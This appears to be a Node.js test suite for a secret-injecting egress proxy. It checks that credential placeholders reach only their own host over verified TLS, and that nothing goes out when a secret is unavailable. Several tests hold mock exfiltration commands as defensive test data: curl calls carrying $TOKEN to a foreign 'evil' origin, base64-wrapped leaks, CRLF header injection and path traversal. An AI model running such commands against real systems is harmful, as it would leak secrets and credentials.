// Invariants 7 and 8 at the boundary: a secret goes to its own host, in its named places, over verified TLS; and when it cannot
// be had, nothing goes out in its stead.
//
// Not here, because the kinds do not exist yet: A16 (signing oracle: aws_sigv4), A29 (registry realm), A30 (imitated token
// endpoint: oauth2), and of A2 the sealing of tokens that an origin makes. They come with their kinds.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { SECRET, authority, boundary, credential, nameServer, origin, rawOrigin, rule } from '../lib/egress.mjs';
import { BIN, descendants, run, start, tempDir, until } from '../lib/own.mjs';

const ca = authority();
const tls = ca.issue(['api.test', 'other.test']);
const dns = await nameServer({ 'api.test': '127.0.0.1', 'other.test': '127.0.0.1', 'sub.api.test': '127.0.0.1' });
const SECOND = 'sk-other-Xb81LqPz0Rt5Yw3Kd7Mn';
const code = "-o /dev/null -w '%{http_code}\\n'";
const kinds = (out) => out.trim().split('\n').map((l) => JSON.parse(l).error?.type ?? 'fine');

test('A3 laundering: a placeholder on its way to a host that it does not belong to is refused', async () => {
  const o = await origin({ tls }), evil = await origin({ tls });
  const b = boundary({ ca, dns, secrets: [SECRET, SECOND], allow: [rule('api.test', o.port), rule('other.test', evil.port), rule('api.test', evil.port)],
    credentials: [credential(`api.test:${o.port}`), credential(`other.test:${evil.port}`, {}, { name: 'OTHER', secret: SECOND })] });
  const to = (u, h) => `curl -sS ${u} -H "${h}"; echo`;
  const out = await b.ok([to(`https://other.test:${evil.port}/`, 'Authorization: Bearer $TOKEN'), to(`https://other.test:${evil.port}/`, 'X-Note: $TOKEN'), to(`https://other.test:${evil.port}/$TOKEN`, 'A: b'),
    to(`https://api.test:${o.port}/`, 'Authorization: Bearer $OTHER'), `curl -sS -u x:$TOKEN https://other.test:${evil.port}/; echo`, to(`https://other.test:${evil.port}/`, 'X-B: $(printf %s "a:$TOKEN" | base64 -w0)')].join('\n'));
  assert.deepEqual(kinds(out), Array(6).fill('leak_attempt'));
  assert.equal(o.seen.length + evil.seen.length, 0);
  const r = b.records({ reason: 'leak_attempt' });
  assert.equal(r.length, 6);
  assert.ok(r.every((x) => x.verdict === 'deny' && x.host));
});

test('A3 a real secret that comes from a sandbox is refused, in head and body', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, secrets: [], allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
  const hex = Buffer.from(SECRET).toString('hex');
  const out = await b.ok(`for h in "Authorization: Bearer ${SECRET}" "X-A: ${hex}"; do curl -sS https://api.test:${o.port}/ -H "$h"; echo; done; curl -sS https://api.test:${o.port}/?q=${SECRET}; echo; curl -sS https://api.test:${o.port}/ -d 'a=${SECRET}'`);
  assert.deepEqual(kinds(out), Array(4).fill('secret_seen'));
  assert.equal(o.seen.filter((r) => JSON.stringify(r).includes(SECRET)).length, 0);
});

test('A1, A26 a secret that an origin remembers is scrubbed before the credential was ever used here', async () => {
  const o = await origin({ tls, handler: (req, res) => res.end(`your keys: ${SECRET}`) });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
  const out = await b.ok(`echo "$TOKEN"; curl -sS https://api.test:${o.port}/keys`);
  const [placeholder, body] = out.trim().split('\n');
  assert.equal(body, `your keys: ${placeholder}`);
  assert.equal(o.seen[0].headers.authorization, undefined);
});

test('A9 CR, LF and NUL in a secret: nothing is sent, and the words do not hold it', async () => {
  for (const bad of ['abcdefgh12345678\r\nX-Evil: 1', 'abcdefgh\n12345678', 'abcdefgh\0 12345678', 'abcdefgh\r12345678']) {
    const o = await origin({ tls });
    const b = boundary({ ca, dns, secrets: [], allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`, {}, { secret: bad })] });
    const r = await b.sh(`curl -sSi https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`);
    assert.match(r.out, /^HTTP\/\S+ 502/, r.out + r.err);
    assert.ok(!(r.out + r.err).includes('12345678'), r.out + r.err);
    assert.equal(o.seen.length, 0);
  }
});

test('A15 Basic, JSON and percent forms: each place writes the secret for its context', async () => {
  const hard = 'p@ss:w"o\\rd/+&%41 x';
  const o = await origin({ tls });
  const at = `api.test:${o.port}`;
  const b = boundary({ ca, dns, secrets: [hard], allow: [rule('api.test', o.port)], credentials: [credential(at, { inject: { header: ['x-key'], basic: true, query: ['key'], path: true, body: true } }, { secret: hard })] });
  await b.ok(`u=https://${at}; curl -sS $u/1 -H "X-Key: $TOKEN"; curl -sS -u "me:$TOKEN" $u/2; curl -sS "$u/3?key=$TOKEN&b=1"; curl -sS "$u/4/$TOKEN/x"; curl -sS $u/5 -H 'Content-Type: application/json' -d '{"k":"'$TOKEN'"}'; curl -sS $u/6 --data-urlencode "k=$TOKEN"`);
  const s = o.seen;
  assert.equal(s.length, 6);
  assert.equal(s[0].headers['x-key'], hard);
  assert.equal(Buffer.from(s[1].headers.authorization.slice(6), 'base64').toString(), `me:${hard}`);
  assert.equal(new URL(s[2].url, 'https://x').searchParams.get('key'), hard);
  assert.equal(decodeURIComponent(s[3].url.split('/')[2]), hard);
  assert.equal(JSON.parse(s[4].body).k, hard);
  assert.equal(new URLSearchParams(s[5].body).get('k'), hard);
});

test('A18 a placeholder that is quoted in a body passes as the worthless text that it is', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('other.test', o.port, { inspect: true })], credentials: [credential(`api.test:${o.port}`)] });
  const out = await b.ok(`echo $TOKEN; for h in api other; do curl -sS ${code} https://$h.test:${o.port}/v1/messages -d "my env has TOKEN=$TOKEN"; done`);
  const [placeholder, ...codes] = out.trim().split('\n');
  assert.deepEqual(codes, ['200', '200']);
  assert.deepEqual(o.seen.map((r) => r.body), Array(2).fill(`my env has TOKEN=${placeholder}`));
});

test('A22 placeholders are of their session: no two alike, and one of another session buys nothing', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
  const seen = new Set();
  for (let i = 0; i < 3; i++) seen.add((await b.ok('echo $TOKEN')).trim());
  assert.equal(seen.size, 3);
  for (const p of seen) assert.match(p, /^sp_ph_[A-Za-z0-9]{32}$/);
  const [old] = seen;
  await b.ok(`curl -sS ${code} https://api.test:${o.port}/ -H "Authorization: Bearer ${old}"`);
  assert.ok(o.seen.every((r) => !JSON.stringify(r).includes(SECRET)), 'the secret was not given for another session’s placeholder');
});

test('A26 a source that is lost: 502 that says so, and never the placeholder', async () => {
  const o = await origin({ tls });
  const dir = tempDir('lost');
  const c = credential(`api.test:${o.port}`, {}, { dir });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [c] });
  fs.rmSync(path.join(dir, 'TOKEN'));
  const r = await b.sh(`curl -sSi https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"; curl -sS ${code} https://api.test:${o.port}/public`);
  assert.match(r.out, /^HTTP\/\S+ 502[\s\S]*source_unavailable/, r.out + r.err);
  assert.match(r.out, /502\n$/, 'what it is cannot be scrubbed either, so nothing comes from there');
  assert.equal(o.seen.length, 0);
});

test('A26 a keeper that is killed: whoever takes its place has the secret, or nothing goes out', async () => {
  const o = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
  const dir = tempDir('go');
  const p = start(BIN, [...b.argv(['--bind', dir]), '--', 'sh', '-c', `echo ready; while [ ! -e ${dir}/go ]; do sleep 0.1; done; curl -sS -m 5 https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN" ${code}; echo over`]);
  await p.line(/ready/);
  const keeper = descendants(p.pid).filter((d) => /egress/.test(fs.readFileSync(`/proc/${d}/cmdline`, 'latin1')) && !/proxy/.test(fs.readFileSync(`/proc/${d}/cmdline`, 'latin1')));
  assert.equal(keeper.length, 1, `${keeper}`);
  process.kill(keeper[0], 'SIGKILL');
  await until('the keeper is gone', () => !fs.existsSync(`/proc/${keeper[0]}`) || /^State:\s+[ZX]/m.test(fs.readFileSync(`/proc/${keeper[0]}/status`, 'utf8')));
  fs.writeFileSync(path.join(dir, 'go'), '');
  await p.exit;
  assert.match(p.out, /^over$/m);
  assert.deepEqual(o.seen.map((r) => r.headers.authorization), /^200/m.test(p.out) ? [`Bearer ${SECRET}`] : [], 'never the placeholder');
});

test('A28 over plaintext, or to a certificate that is expired, of another name or of nobody, no secret goes', async () => {
  const plain = await origin({ plain: true });
  const bad = { expired: ca.issue(['api.test'], { days: -1 }), other: ca.issue(['elsewhere.test']), nobody: authority().issue(['api.test']) };
  const b0 = boundary({ ca, dns, allow: [rule('api.test', plain.port)], credentials: [credential(`api.test:${plain.port}`)] });
  const out = await b0.ok(`curl -sS http://api.test:${plain.port}/ -H "Authorization: Bearer $TOKEN"; echo; curl -sS ${code} https://api.test:${plain.port}/ -H "Authorization: Bearer $TOKEN"`);
  assert.match(out, /"plaintext"/);
  assert.match(out, /\n502\n$/, 'an origin without TLS is no origin for https');
  assert.equal(plain.seen.length, 0);
  for (const [k, t] of Object.entries(bad)) {
    const o = await origin({ tls: t });
    const b = boundary({ ca, dns, allow: [rule('api.test', o.port)], credentials: [credential(`api.test:${o.port}`)] });
    assert.match(await b.ok(`curl -sSi https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`), /^HTTP\/\S+ 502[\s\S]*tls_certificate_error/, k);
    assert.equal(o.seen.length, 0, k);
  }
});

test('A32 two credentials whose order would decide: refused when the policy is loaded, told apart by path otherwise', async () => {
  const o = await origin({ tls });
  const at = `api.test:${o.port}`;
  const two = (a, c) => [credential(at, a), credential(at, c, { name: 'OTHER', secret: SECOND })];
  const amb = boundary({ ca, dns, secrets: [SECRET, SECOND], allow: [rule('api.test', o.port)], credentials: two({ inject: { add: { authorization: 'Bearer {secret}' } } }, { inject: { add: { authorization: 'Bearer {secret}' } } }) });
  const r = await amb.sh('echo started');
  assert.notEqual(r.code, 0);
  assert.doesNotMatch(r.out, /started/);
  assert.match(r.err, /TOKEN[\s\S]*OTHER|OTHER[\s\S]*TOKEN/);
  const b = boundary({ ca, dns, secrets: [SECRET, SECOND], allow: [rule('api.test', o.port)], credentials: two({ paths: ['/a/**'], inject: { add: { authorization: 'Bearer {secret}' } } }, { paths: ['/b/**'], inject: { add: { authorization: 'Bearer {secret}' } } }) });
  await b.ok(`for p in a/1 b/1 c/1 a/../b/1; do curl -sS --path-as-is ${code} https://${at}/$p; done`);
  assert.deepEqual(o.seen.slice(0, 2).map((s) => s.headers.authorization), [`Bearer ${SECRET}`, `Bearer ${SECOND}`]);
  assert.ok(o.seen.slice(2).every((s) => s.headers.authorization === undefined), 'a path with two readings has none of them');
});

test('invariant 7: a redirect, a second port and a subdomain are other origins', async () => {
  const o = await origin({ tls: ca.issue(['api.test', 'sub.api.test']) }), p2 = await origin({ tls });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('api.test', p2.port), rule('sub.api.test', o.port, { inspect: true })], credentials: [credential(`api.test:${o.port}`)] });
  const out = await b.ok(`for u in api.test:${p2.port} sub.api.test:${o.port}; do curl -sSk https://$u/ -H "Authorization: Bearer $TOKEN"; echo; done`);
  for (const s of [...o.seen, ...p2.seen]) assert.ok(!JSON.stringify(s).includes(SECRET));
  assert.equal(out.match(/leak_attempt/g)?.length, 2, out);
});

test('invariant 8: a full disk stops requests with a clear error, and nothing goes out', { skip: process.getuid() !== 0 && 'a small file system needs root' }, async () => {
  const o = await origin({ tls }), untouched = await origin({ tls, h2: true });
  let dialled = 0;
  untouched.server.on('connection', () => { dialled++; });
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('api.test', untouched.port)], credentials: [credential([`api.test:${o.port}`, `api.test:${untouched.port}`])] });
  const small = tempDir('small'), go = tempDir('go');
  const get = `curl -sS -i -m 20 https://api.test:${o.port}/ -H "Authorization: Bearer $TOKEN"`;
  const inside = `${get} -o /dev/null -w '%{http_code}\\n'; touch ${go}/ready; while [ ! -e ${go}/full ]; do sleep 0.1; done; i=0; while [ $i -lt 12000 ]; do i=$((i+1)); echo "url = https://api.test:${o.port}/$i/${'x'.repeat(900)}"; echo 'output = /dev/null'; done > /tmp/list; curl -sS -K /tmp/list -H "Authorization: Bearer $TOKEN"; ${get}; ${get.replace(o.port, untouched.port)}`;
  const argv = ['exec', '--egress', b.file, '--audit', `${small}/audit.jsonl`, '--bind', `${go}:rw`, '--', 'sh', '-c', inside];
  const outer = `mount -t tmpfs -o size=8m tmpfs ${small} && { (while [ ! -e ${go}/ready ]; do sleep 0.1; done; dd if=/dev/zero of=${small}/fill bs=64k 2>/dev/null; touch ${go}/full) & exec "$@"; }`;
  const r = await run('unshare', ['-m', 'sh', '-c', outer, 'sh', BIN, ...argv], { timeout: 120000 });
  assert.match(r.out, /^200\n/, r.out + r.err);
  assert.equal(r.out.match(/HTTP\/\S+ 503[\s\S]*?"audit"/g)?.length, 2, (r.out + r.err).slice(-3000));
  assert.equal(dialled, 0, 'not even to ask which version the origin speaks');
  assert.ok(!r.out.includes(SECRET));
});

test('invariant 2: no record, log line or error text holds the secret', async () => {
  const o = await origin({ tls, handler: (req, res) => res.writeHead(500, { 'x-k': SECRET }).end(SECRET) });
  const raw = await rawOrigin((c) => c.once('data', () => c.end(`HTTP/1.1 ${SECRET}\r\n\r\n`)));
  const b = boundary({ ca, dns, allow: [rule('api.test', o.port), rule('api.test', raw.port)], credentials: [credential([`api.test:${o.port}`, `api.test:${raw.port}`], { plaintext: true, inject: { header: ['authorization'], query: ['k'], path: true } })] });
  const r = await b.sh(`curl -sS "https://api.test:${o.port}/$TOKEN?k=$TOKEN"; curl -sS http://api.test:${raw.port}/ -H "Authorization: Bearer $TOKEN"`);
  assert.ok(o.seen.length === 1 && b.records({ kind: 'credential' }).length === 2, r.out + r.err);
  const all = fs.readdirSync(b.dir).map((f) => fs.readFileSync(path.join(b.dir, f), 'latin1')).join('\n') + r.err;
  for (const f of [SECRET, Buffer.from(SECRET).toString('hex'), Buffer.from(SECRET).toString('base64').slice(0, -4)]) assert.ok(!all.includes(f), f);
});
